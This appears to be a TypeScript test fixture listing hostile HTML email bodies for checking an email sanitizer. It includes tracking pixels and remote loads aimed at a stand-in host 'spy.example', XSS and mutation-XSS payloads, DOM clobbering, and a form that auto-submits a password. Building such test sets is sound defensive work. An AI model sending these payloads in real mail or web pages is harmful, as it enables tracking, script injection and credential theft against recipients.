/** Asked for by a mail, it would be the first thing the sender hears of its reader. */
const SPY = 'https://spy.example'

/** Mails that try to load, to run, to ask, or to look like something else; by what they try. */
export const HOSTILE_MAILS: Record<string, string> = {
  image: `<p>Hello</p><img src="${SPY}/pixel.gif" width="1" height="1">`,
  'image set': `<img srcset="${SPY}/1x.png 1x, ${SPY}/2x.png 2x" alt="x">`,
  picture: `<picture><source srcset="${SPY}/a.webp"><img src="${SPY}/a.png"></picture>`,
  'image that fails': '<img src=x onerror="window.top.hacked=1;alert(1)">',
  'style import': `<style>@import url("${SPY}/a.css"); body { display: none }</style><p>Text</p>`,
  'style address': `<div style="background: url(${SPY}/b.png)">Text</div><table background="${SPY}/c.png"><tr><td background="${SPY}/d.png">x</td></tr></table>`,
  'style of everything': '<style>* { position: fixed; inset: 0; background: red } :root { --x: 1 }</style><p>Text</p>',
  'style escaped': `<div style="background-image:\\75\\72\\6c(${SPY}/e.png)">Text</div>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${SPY}/refresh">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${SPY}/report"><img src="${SPY}/f.png">`,
  form: `<form action="${SPY}/form" method="post"><input name="password" autofocus onfocus="alert(1)"><button>Sign in</button></form><script>document.forms[0].submit()</script>`,
  script: `<script>window.top.hacked = 1; fetch('${SPY}/script')</script><script src="${SPY}/s.js"></script>`,
  'drawing with script': `<svg onload="window.top.hacked=1"><script>alert(1)</script><image href="${SPY}/g.png"/><use href="${SPY}/h.svg#x"/></svg>`,
  'drawing animates': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  'link that runs':
    '<a href="javascript:window.top.hacked=1">Click</a><a href=" &#1;java&#9;script:alert(1)">Click</a>',
  'link that leads away': `<a href="${SPY}/link" ping="${SPY}/ping" target="_top">Click</a>`,
  base: `<base href="${SPY}/" target="_top"><a href="x">x</a><img src="relative.png">`,
  'linked style': `<link rel="stylesheet" href="${SPY}/l.css"><link rel="prefetch" href="${SPY}/p"><link rel="dns-prefetch" href="//spy.example"><link rel="preconnect" href="${SPY}">`,
  frames: `<iframe src="${SPY}/frame"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><frameset><frame src="${SPY}/old"></frameset>`,
  objects: `<object data="${SPY}/o.swf"><param name="movie" value="${SPY}/m.swf"></object><embed src="${SPY}/e.pdf"><applet code="x" archive="${SPY}/a.jar"></applet>`,
  media: `<video poster="${SPY}/poster.png" src="${SPY}/v.mp4" autoplay></video><audio src="${SPY}/a.mp3" autoplay></audio><video><source src="${SPY}/w.mp4"><track src="${SPY}/t.vtt" default></video>`,
  'old attributes': `<body background="${SPY}/body.png" onload="window.top.hacked=1" bgcolor="red"><img lowsrc="${SPY}/low.png" dynsrc="${SPY}/dyn.avi" longdesc="${SPY}/long"></body>`,
  events:
    '<div onmouseover="alert(1)" onclick="alert(1)" style="position:fixed;inset:0">x</div><details open ontoggle="window.top.hacked=1"><summary>x</summary></details><marquee onstart="alert(1)">x</marquee>',
  'mutation: style in math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation: form in math':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.top.hacked=1">',
  'mutation: noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation: comment': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
  'mutation: title': `<title><img src="${SPY}/t.png" onerror="alert(1)"></title><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>`,
  'mutation: template': `<template><img src="${SPY}/tpl.png" onerror="alert(1)"></template><div><template shadowrootmode="open"><img src="${SPY}/shadow.png"></template></div>`,
  'names that shadow':
    '<img name="cookie"><form id="attributes"><input name="nodeName"></form><a id="location" href="x">x</a>',
  'breaking out': `</body></html></iframe>"><script>window.top.hacked=1</script><img src="${SPY}/out.png">`,
  'conditional comment': `<!--[if gte mso 9]><xml><v:image src="${SPY}/vml.png"/></xml><![endif]--><v:rect><v:fill src="${SPY}/fill.png"/></v:rect>`,
  'deep nesting': `${'<div>'.repeat(5_000)}<img src="${SPY}/deep.png">${'</div>'.repeat(5_000)}`,
  'pictures inside': '<img src="cid:logo@contoso.example"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
}
